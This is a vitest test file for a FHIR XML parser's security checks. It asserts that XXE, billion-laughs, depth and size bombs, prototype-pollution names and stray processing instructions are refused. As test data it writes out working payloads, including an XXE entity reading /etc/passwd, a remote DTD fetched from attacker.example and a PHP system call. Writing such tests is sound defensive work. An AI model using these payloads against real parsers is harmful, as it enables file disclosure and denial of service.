import { describe, expect, it } from 'vitest';
import { FhirError } from '../../errors.js';
import { formatFhirXml, parseFhirJson, parseFhirXml, type XmlLimits } from './index.js';

/** Untrusted XML (http://hl7.org/fhir/R4/security.html#xml): each attack is refused as INVALID. */
const PATIENT = '<Patient xmlns="http://hl7.org/fhir"><active value="true"/></Patient>';

function refusal(xml: string, limits?: XmlLimits): FhirError {
  try {
    parseFhirXml(xml, limits);
  } catch (err) {
    expect(err).toBeInstanceOf(FhirError);
    expect((err as FhirError).code).toBe('INVALID');
    return err as FhirError;
  }
  throw new Error('expected the document to be refused');
}

describe('XML security', () => {
  it('accepts the plain document used below, with or without an XML declaration', () => {
    expect(parseFhirXml(PATIENT)).toEqual({ resourceType: 'Patient', active: true });
    expect(parseFhirXml(`<?xml version="1.0" encoding="UTF-8"?>\n${PATIENT}`)).toEqual({ resourceType: 'Patient', active: true });
    expect(parseFhirXml(`\uFEFF${PATIENT}`)).toEqual({ resourceType: 'Patient', active: true });
  });

  it('refuses a DOCTYPE with an external entity (XXE)', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>`;
    expect(refusal(xml).message).toMatch(/^DOCTYPE is not allowed/);
  });

  it('refuses a DOCTYPE with a parameter entity pointing at a remote DTD', () => {
    const xml = `<!DOCTYPE Patient [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>${PATIENT}`;
    expect(refusal(xml).message).toMatch(/^DOCTYPE is not allowed/);
  });

  it('refuses the billion laughs', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const xml = `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${entities}]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol9;"/></name></Patient>`;
    expect(refusal(xml).message).toMatch(/^DOCTYPE is not allowed/);
  });

  it('refuses an entity reference that no DTD declares', () => {
    const xml = '<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>';
    expect(refusal(xml).message).toMatch(/^XML is not well-formed: Undeclared entity &xxe; .* \(line 1, column 59\)$/);
  });

  it('does not take names of Object.prototype for entities or namespace prefixes', () => {
    const entity = '<Patient xmlns="http://hl7.org/fhir"><name><family value="&constructor;"/></name></Patient>';
    expect(refusal(entity).message).toMatch(/^XML is not well-formed: Undeclared entity &constructor;/);
    const prefix = '<toString:Patient xmlns:f="http://hl7.org/fhir"/>';
    expect(refusal(prefix).message).toBe('Root element <toString:Patient> must be in the FHIR namespace http://hl7.org/fhir (no namespace is declared)');
  });

  it('refuses elements and attributes named __proto__, constructor or prototype as INVALID, before the tree builder (which throws on them)', () => {
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><__proto__ value="x"/></Patient>').message).toBe('<__proto__> is not an element FHIR XML can have (line 1, column 38)');
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><constructor><x/></constructor></Patient>').message).toMatch(/^<constructor> is not an element/);
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><text><div xmlns="http://www.w3.org/1999/xhtml"><f:prototype xmlns:f="x"/></div></text></Patient>').message).toMatch(/^<f:prototype> is not/);
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><active __proto__="x" value="true"/></Patient>').message).toMatch(/^'__proto__' is not an attribute/);
  });

  it('refuses more than 64 attributes on one element, at once, however many there are', () => {
    const attributes = (n: number) => Array.from({ length: n }, (_, i) => ` a${i}="x"`).join('');
    expect(parseFhirXml(`<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"${attributes(63)}>x</div></text></Patient>`).resourceType).toBe('Patient');
    const started = performance.now();
    expect(refusal(`<Patient xmlns="http://hl7.org/fhir"><active${attributes(50_000)} value="true"/></Patient>`).message).toMatch(/^<active> has more than 64 attributes/);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('refuses processing instructions other than the XML declaration', () => {
    expect(refusal(`<?xml-stylesheet href="x.xsl"?>${PATIENT}`).message).toMatch(/^Processing instruction <\?xml-stylesheet/);
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><?php system("id"); ?></Patient>').message).toMatch(/^Processing instruction <\?php/);
    expect(refusal(` <?xml version="1.0"?>${PATIENT}`).message).toMatch(/^Processing instruction <\?xml is not allowed .*\(line 1, column 2\)$/);
  });

  it('does not mistake markup-like text inside a comment for a declaration', () => {
    const xml = '<Patient xmlns="http://hl7.org/fhir"><!-- <!DOCTYPE x> <?pi?> --><active value="true"/></Patient>';
    expect(parseFhirXml(xml)).toEqual({ resourceType: 'Patient', active: true });
  });

  it('refuses a depth bomb of FHIR elements beyond the default 100 levels, naming the path', () => {
    const depth = 150;
    const xml = `<Patient xmlns="http://hl7.org/fhir">${'<extension url="u">'.repeat(depth)}${'</extension>'.repeat(depth)}</Patient>`;
    const err = refusal(xml);
    expect(err.message).toBe('XML nesting is deeper than the limit of 100 levels');
    expect(err.issues[0].expression?.[0]).toBe(`Patient${'.extension'.repeat(100)}`);
  });

  it('refuses a depth bomb of arbitrary elements before reading them as FHIR', () => {
    const depth = 100_000;
    const xml = `<Patient xmlns="http://hl7.org/fhir">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</Patient>`;
    expect(refusal(xml).message).toBe('XML nesting is deeper than the limit of 100 levels');
  });

  it('applies a configured maximum depth exactly', () => {
    const xml = '<Patient xmlns="http://hl7.org/fhir"><name><family value="x"/></name></Patient>';
    expect(parseFhirXml(xml, { maxDepth: 3 })).toEqual({ resourceType: 'Patient', name: [{ family: 'x' }] });
    expect(refusal(xml, { maxDepth: 2 }).issues[0].expression).toEqual(['Patient.name.family']);
  });

  it('refuses input over the default 10 MB and over a configured size, before parsing', () => {
    const padding = `<!--${'x'.repeat(10 * 1024 * 1024)}-->`;
    expect(refusal(PATIENT + padding).message).toBe('XML document is larger than the limit of 10485760 bytes');
    expect(refusal(PATIENT, { maxBytes: 40 }).message).toBe('XML document is larger than the limit of 40 bytes');
    expect(parseFhirXml(PATIENT, { maxBytes: PATIENT.length })).toEqual({ resourceType: 'Patient', active: true });
  });

  it('counts the size in UTF-8 bytes, not characters', () => {
    const xml = '<Patient xmlns="http://hl7.org/fhir"><name><family value="ŁŁŁŁŁŁŁŁŁŁ"/></name></Patient>';
    expect(refusal(xml, { maxBytes: xml.length + 5 }).message).toMatch(/larger than the limit/);
    expect(parseFhirXml(xml, { maxBytes: xml.length + 10 }).resourceType).toBe('Patient');
  });

  it('refuses oversized JSON on the precision-preserving JSON path', () => {
    expect(() => parseFhirJson('{"resourceType":"Patient"}', { maxBytes: 10 })).toThrow(/larger than the limit of 10 bytes/);
  });

  it('refuses JSON nesting bombs on the JSON path, and deep JSON when writing XML', () => {
    const bomb = `{"resourceType":"Patient","extension":${'[{"url":"u","extension":'.repeat(200_000)}[]${'}]'.repeat(200_000)}}`;
    expect(() => parseFhirJson(bomb)).toThrow('JSON nesting is too deep');
    const deep = parseFhirJson(`{"resourceType":"Patient","extension":${'[{"url":"u","extension":'.repeat(150)}[]${'}]'.repeat(150)}}`);
    expect(() => formatFhirXml(deep)).toThrow('Nesting is deeper than the limit of 100 levels');
  });

  it('refuses malformed XML that the tree builder alone would accept', () => {
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><name></Patient>').message).toBe('XML is not well-formed: Expected </name> but found </Patient> (line 1, column 44)');
    expect(refusal(`${PATIENT}<Patient xmlns="http://hl7.org/fhir"/>`).message).toMatch(/^XML is not well-formed: A document has exactly one root element/);
    expect(refusal(`${PATIENT}trailing`).message).toMatch(/^XML is not well-formed: Text after the root element/);
  });

  it('refuses characters XML 1.0 does not allow, literal or referenced', () => {
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><name><family value="a\u0001b"/></name></Patient>').message).toMatch(/U\+0001/);
    expect(refusal('<Patient xmlns="http://hl7.org/fhir"><name><family value="a&#1;b"/></name></Patient>').message).toMatch(/not an XML character/);
  });
});
